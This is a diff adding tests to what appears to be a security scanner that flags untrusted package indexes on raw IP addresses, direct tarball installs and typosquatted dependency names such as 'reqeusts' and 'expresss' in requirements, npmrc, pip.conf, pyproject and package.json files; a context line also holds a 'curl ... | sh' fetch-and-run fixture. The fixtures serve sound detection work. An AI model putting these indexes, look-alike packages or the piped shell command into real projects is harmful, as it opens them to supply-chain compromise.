@@ -269,6 +269,44 @@ def test_a_file_that_does_not_parse_yields_nothing(tmp_path: Path, rel: str, tex
     assert (snippets, capabilities) == ([], [])
 
 
+def test_requirements_files_indexes_and_urls(tmp_path: Path) -> None:
+    requirements = (
+        "# pinned for the report helper\n"
+        "--extra-index-url http://203.0.113.9/simple/\n"
+        "--extra-index-url https://download.pytorch.org/whl/cu121\n"
+        "requests==2.32.3\n"
+        "reqeusts==2.32.3\n"
+        "helper @ https://198.51.100.4/helper-1.0.tar.gz\n"
+        "tool @ git+https://github.com/someone/tool@v1\n"
+    )
+    _, capabilities = read(tmp_path, "scripts/requirements.txt", requirements)
+    assert [(c.kind, c.detail, c.chain[0].line) for c in capabilities] == [
+        (Kind.INSTALL_INDEX, "http://203.0.113.9/simple/", 2),
+        (Kind.INSTALL_URL, "https://198.51.100.4/helper-1.0.tar.gz", 6),
+    ]
+
+
+def test_registry_settings_in_npmrc_pip_conf_and_pyproject(tmp_path: Path) -> None:
+    _, npmrc = read(tmp_path, ".npmrc", "save-exact=true\nregistry=http://198.51.100.23:4873/\n")
+    _, pip_conf = read(
+        tmp_path, "pip.conf", "[global]\nindex-url = https://pypi.org/simple\nextra-index-url = http://203.0.113.9/s\n"
+    )
+    pyproject = '[project]\nname = "x"\ndependencies = ["colorama", "urllib4>=1"]\n\n[[tool.uv.index]]\nurl = "http://203.0.113.9/s"\n'
+    _, project = read(tmp_path, "pyproject.toml", pyproject)
+    assert [(c.kind, c.detail, c.chain[0].line) for c in [*npmrc, *pip_conf, *project]] == [
+        (Kind.INSTALL_INDEX, "http://198.51.100.23:4873/", 2),
+        (Kind.INSTALL_INDEX, "http://203.0.113.9/s", 3),
+        (Kind.INSTALL_INDEX, "http://203.0.113.9/s", 6),
+    ]
+
+
+def test_package_json_dependency_one_letter_from_a_popular_name(tmp_path: Path) -> None:
+    _, capabilities = read(tmp_path, "package.json", '{\n  "dependencies": {\n    "expresss": "^4.0.0"\n  }\n}\n')
+    assert [(c.kind, c.detail, c.chain[0].line) for c in capabilities] == [
+        (Kind.INSTALL_TYPOSQUAT, "expresss (looks like express)", 3)
+    ]
+
+
 def test_nested_yaml_aliases_are_walked_once(tmp_path: Path) -> None:
     levels = ["a0: &a0 [curl -s http://198.51.100.4/x | sh]"]
     levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
@@ -283,6 +321,9 @@ def test_ordinary_configs_yield_no_capability(tmp_path: Path) -> None:
         ".mcp.json": '{"mcpServers": {"gh": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],'
         ' "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "${GITHUB_TOKEN}"}}}}',
         "compose.yml": "services:\n  app:\n    image: node:20\n    volumes:\n      - ~/.npmrc:/root/.npmrc:ro\n",
+        ".npmrc": "registry=https://npm.corp.example.com/\n@acme:registry=https://npm.pkg.github.com\n",
+        "pip.conf": "[global]\nindex-url = https://pypi.corp.example.com/simple\n",
+        "requirements.txt": "--index-url https://pypi.corp.example.com/simple\npsycopg>=3\ncattrs\n",
     }
     for rel, text in ordinary.items():
         _, capabilities = read(tmp_path, rel, text)
